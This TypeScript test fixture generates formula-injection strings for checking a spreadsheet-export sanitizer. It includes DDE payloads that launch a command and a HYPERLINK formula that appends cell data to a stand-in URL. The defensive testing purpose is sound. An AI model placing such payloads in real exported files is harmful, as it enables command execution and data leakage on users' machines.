/** Beginnings at which spreadsheets start to calculate, and what may hide them. */
const BEGINNINGS = [
	'=',
	'+',
	'-',
	'@',
	'\t=',
	'\r=',
	'\n=',
	'＝',
	'＋',
	'－',
	'＠',
	' =',
	'\ufeff=',
	'\u200b=',
	'\u00a0+',
	'  @',
	'%',
	'"=',
	"'=",
	';=',
	',=',
];

const ENDINGS = [
	'1+1',
	"cmd|' /C calc'!A0",
	'HYPERLINK("http://example.com?"&A1,"click")',
	"SUM(1;2)*cmd|'/C calc'!A0",
	'IMPORTXML("http://example.com","//a")',
	'DDE("cmd";"/C calc";"")',
	'A1:A9',
	'"quoted"',
	'WEBSERVICE("http://example.com")',
	'x,"=1+1","@y"',
	'x";=2+2;"',
	'10 & "a"',
	'1\n=2+2',
	'_x0041_ _x000D_',
	'\u0000nul\u0001\u0008',
];

/** Over 300 texts that must never become formulas. */
export const payloads: string[] = BEGINNINGS.flatMap((beginning) => ENDINGS.map((ending) => beginning + ending)).concat(
	[
		'-5',
		'+49 30 123456',
		'-1234567890123456',
		'1E5',
		'=',
		'@',
		'TRUE',
		'2024-01-02',
		'MARCH1',
		'00123',
		'x'.repeat(40_000),
	],
);

/** 10,000 of them: beginnings behind beginnings, before endings, some in a text of several lines or in quotes. */
export const manyPayloads: string[] = BEGINNINGS.flatMap((first) =>
	BEGINNINGS.flatMap((second) =>
		ENDINGS.flatMap((ending) => [first + second + ending, `x\n${first}${second}${ending}`]),
	),
).slice(0, 10_000);
